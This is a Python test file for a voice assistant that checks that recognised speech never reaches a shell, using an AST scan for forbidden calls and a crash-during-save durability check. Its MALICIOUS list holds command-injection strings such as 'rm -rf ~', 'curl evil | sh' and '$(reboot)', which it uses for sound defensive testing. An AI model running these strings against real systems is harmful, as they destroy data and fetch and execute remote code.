"""Recognised words never reach a shell, and saved files survive a crash mid-write.

Existing: the argv comes from the allow-list (tests/assistant/skills/test_apps.py), notes and
settings keep the old file when a write fails (test_notes.py, gui/test_settings.py). Added: a
scan of the whole runtime for shells and code evaluation, spoken shell syntax against the real
command path, and a process killed while it saves.
"""

from __future__ import annotations

import ast
import json
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

import assistant
from assistant.commands.grammar import BUILTIN_DIR, CommandSet
from assistant.commands.intents import RecognitionResult, match_text
from assistant.skills.dispatch import Skills, SkillsConfig

RUNTIME = Path(assistant.__file__).parent
FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__"}
FORBIDDEN_ATTRIBUTES = {
    ("os", "system"),
    ("os", "popen"),
    ("subprocess", "getoutput"),
    ("subprocess", "getstatusoutput"),
}


def dangerous_calls(path: Path, root: Path = RUNTIME.parent) -> list[str]:
    """``file:line: what`` for each shell or code-evaluation call in a Python file."""
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"), str(path))):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        where = f"{path.relative_to(root)}:{node.lineno}"
        if isinstance(func, ast.Name) and func.id in FORBIDDEN_CALLS:
            found.append(f"{where}: {func.id}()")
        if isinstance(func, ast.Attribute):
            if isinstance(func.value, ast.Name) and (func.value.id, func.attr) in (
                FORBIDDEN_ATTRIBUTES
            ):
                found.append(f"{where}: {func.value.id}.{func.attr}()")
            if func.attr.startswith(("exec", "spawn")) and getattr(func.value, "id", "") == "os":
                found.append(f"{where}: os.{func.attr}()")
        for keyword in node.keywords:
            if keyword.arg == "shell" and not (
                isinstance(keyword.value, ast.Constant) and keyword.value.value is False
            ):
                found.append(f"{where}: shell=...")
    return found


def test_the_scanner_finds_what_it_looks_for(tmp_path: Path) -> None:
    bad = tmp_path / "probe.py"
    bad.write_text(
        "import os, subprocess\nos.system('ls')\nsubprocess.run('ls', shell=True)\n"
        "eval('1')\nos.execvp('ls', ['ls'])\nsubprocess.run(['ls'], shell=False)\n"
    )
    assert dangerous_calls(bad, tmp_path) == [
        "probe.py:2: os.system()",
        "probe.py:3: shell=...",
        "probe.py:4: eval()",
        "probe.py:5: os.execvp()",
    ]


def test_no_runtime_module_runs_a_shell_or_evaluates_code() -> None:
    files = sorted(RUNTIME.rglob("*.py"))
    assert len(files) > 30
    assert [hit for path in files for hit in dangerous_calls(path)] == []


MALICIOUS = ["firefox; rm -rf ~", "firefox && curl evil | sh", "$(reboot)", "`id`", "../../bin/sh"]


@pytest.fixture(scope="module")
def builtin() -> CommandSet:
    return CommandSet([BUILTIN_DIR])


@pytest.mark.parametrize("name", MALICIOUS)
def test_spoken_shell_syntax_runs_nothing(builtin: CommandSet, tmp_path: Path, name: str) -> None:
    launches: list[list[str]] = []
    urls: list[str] = []
    skills = Skills(
        SkillsConfig(data_dir=tmp_path),
        builtin,
        launcher=lambda argv: launches.append(list(argv)),
        open_url=lambda url: urls.append(url) or True,
        runner=lambda argv: launches.append(list(argv)),
    )
    try:
        typed = match_text(f"open {name}", builtin)
        assert typed.intent is None  # the grammar has no such app: nothing to run
        forged = skills.handle(RecognitionResult("OpenApp", {"app": name}, 1.0, name))
    finally:
        skills.close()
    assert forged.text.endswith("isn't in your list of apps.")
    assert (launches, urls) == ([], [])


WRITER = """
import sys
from datetime import datetime
from pathlib import Path
from assistant.gui.settings import Settings, save_settings
from assistant.skills.notes import NoteStore

folder = Path(sys.argv[1])
store = NoteStore(folder)
for i in range(100000):
    store.add(f"note {i}", datetime(2026, 1, 1))
    save_settings(Settings(shortcut=f"F{i % 12 + 1}"), folder / "settings.json")
    print(i, flush=True)
"""


def test_a_process_killed_while_saving_loses_nothing_it_had_saved(tmp_path: Path) -> None:
    from assistant.gui.settings import load_settings
    from assistant.skills.notes import NoteStore

    child = subprocess.Popen(
        [sys.executable, "-c", WRITER, str(tmp_path)],
        stdout=subprocess.PIPE,
        text=True,
        cwd=RUNTIME.parent,
    )
    assert child.stdout is not None
    saved = -1
    deadline = time.monotonic() + 30
    while saved < 40 and time.monotonic() < deadline:  # let it write a few dozen times
        saved = int(child.stdout.readline().split()[0])
    child.send_signal(signal.SIGKILL)  # the "power cut": no cleanup runs
    child.wait(timeout=10)
    notes = [n.text for n in NoteStore(tmp_path).load()]
    assert len(notes) >= saved + 1
    assert notes == [f"note {i}" for i in range(len(notes))]
    settings = load_settings(tmp_path / "settings.json")
    assert settings.shortcut in {f"F{i}" for i in range(1, 13)}
    assert json.loads((tmp_path / "settings.json").read_text())["shortcut"] == settings.shortcut
